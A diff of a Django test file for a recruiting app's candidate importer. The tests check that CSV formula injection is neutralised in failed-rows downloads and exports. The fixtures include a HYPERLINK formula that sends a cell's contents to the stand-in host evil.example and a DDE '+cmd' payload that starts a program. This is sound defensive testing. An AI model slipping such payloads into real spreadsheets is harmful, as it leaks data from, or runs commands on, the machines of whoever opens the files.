@@ -21,6 +21,7 @@ from candidates.importing.reading import ImportFileError, inspect_file
 from candidates.models import Activity, Candidate, ImportRowError, Job
 from candidates.normalize import tags_clean
 from candidates.services import imports
+from candidates.services.export import neutralize
 from candidates.tests.factories import CandidateFactory, CustomFieldFactory
 
 HEADER = "First Name,Last Name,Email,Phone,Current Title\n"
@@ -153,6 +154,69 @@ def test_import_formula_looking_cells_are_plain_text(org, recruiter_user):
     assert failed[4] == "'+cmd|' /C calc'!A0"
 
 
+def test_import_failed_rows_file_neutralises_its_header_row_and_reason(
+    org, recruiter_client, recruiter_user
+):
+    evil = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
+    content = _csv(
+        [
+            ["First Name", "Last Name", "Email", evil, "@SUM(A1)", "-2+3"],
+            ["Ada", "Lovelace", "nope", "x", "y", "z"],
+        ]
+    )
+    job = _run(org, _job(org, recruiter_user, content.encode()))
+
+    response = recruiter_client.get(reverse("candidates:job_download", args=[org.slug, job.pk]))
+    text = b"".join(response.streaming_content).decode("utf-8")
+    header, row = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
+    assert text.count("\ufeff") == 1  # one byte-order mark, so Excel reads UTF-8
+    assert header == [
+        "Row",
+        "First Name",
+        "Last Name",
+        "Email",
+        "'" + evil,
+        "'@SUM(A1)",
+        "'-2+3",
+        "Reason",
+    ]
+    assert row[:4] == ["2", "Ada", "Lovelace", "nope"]
+    assert row[-1].startswith("Email: ")
+
+
+def test_import_failed_rows_file_uses_the_exports_neutralisation(org, recruiter_user):
+    """One rule for every spreadsheet the app writes: a value is written as `neutralize`
+    gives it, in the export and in the failed rows alike."""
+    values = ["=1+2", "+44 7911 123456", "-5", "@x", "\tTab", "plain", "a=b"]
+    content = _csv(
+        [["First Name", "Last Name", "Email", "Headline"]]
+        + [[value, "Lovelace", "not-an-email", value] for value in values]
+    )
+    job = _run(org, _job(org, recruiter_user, content.encode()))
+
+    failed = _failed_rows(org, job)[1:]
+    assert [row[1] for row in failed] == [neutralize(value) for value in values]
+    assert [row[4] for row in failed] == [neutralize(value) for value in values]
+
+
+def test_import_failed_rows_file_imports_back_unescaped(org, recruiter_user):
+    content = _csv(
+        [
+            ["First Name", "Last Name", "Email", "Phone"],
+            ["=1+2", "Lovelace", "ada-at-example.com", "+44 7911 123456"],
+        ]
+    )
+    job = _run(org, _job(org, recruiter_user, content.encode()))
+    fixed = _failed_rows(org, job)
+    fixed[1][3] = "ada@example.com"
+    rows = [row[1:-1] for row in fixed]  # without the Row and Reason columns
+
+    _run(org, _job(org, recruiter_user, _csv(rows).encode()))
+
+    [ada] = _candidates(org)
+    assert (ada.first_name, ada.phone) == ("=1+2", "+447911123456")
+
+
 def test_import_escaped_formula_from_failed_rows_file_is_unescaped(org, recruiter_user):
     content = "First Name,Last Name,Email\n'=1+2,Lovelace,ada@example.com\n"
     _run(org, _job(org, recruiter_user, content.encode()))
@@ -190,7 +254,7 @@ def test_import_ten_thousand_rows_with_five_percent_bad(org, recruiter_user, set
         "First0",
         "Last0",
         "person0-at-example.com",
-        "+44 7911 123456",
+        "'+44 7911 123456",  # neutralised like every cell: the importer drops the quote
         "",
         "Email: “person0-at-example.com” is not a valid email address.",
     ]
@@ -1138,10 +1202,16 @@ def test_import_resume_view_requeues_a_stopped_import(
         mock.patch("candidates.tasks.import_run_task.delay") as delay,
         django_capture_on_commit_callbacks(execute=True),
     ):
-        response = recruiter_client.post(url)
+        response = recruiter_client.post(url, follow=True)
 
-    assert response.status_code == 302
     delay.assert_called_once_with(organization_id=org.pk, job_id=job.pk)
+    assert response.redirect_chain == [
+        (reverse("candidates:job_detail", args=[org.slug, job.pk]), 302)
+    ]
+    # The page says the import carries on, in the part that follows the job, and no flash
+    # stays above it saying so once the import has finished.
+    assert [str(message) for message in response.context["messages"]] == []
+    assert "Importing in the background." in response.content.decode()
 
 
 def test_import_upload_page_lists_recent_imports(org, recruiter_client, recruiter_user):
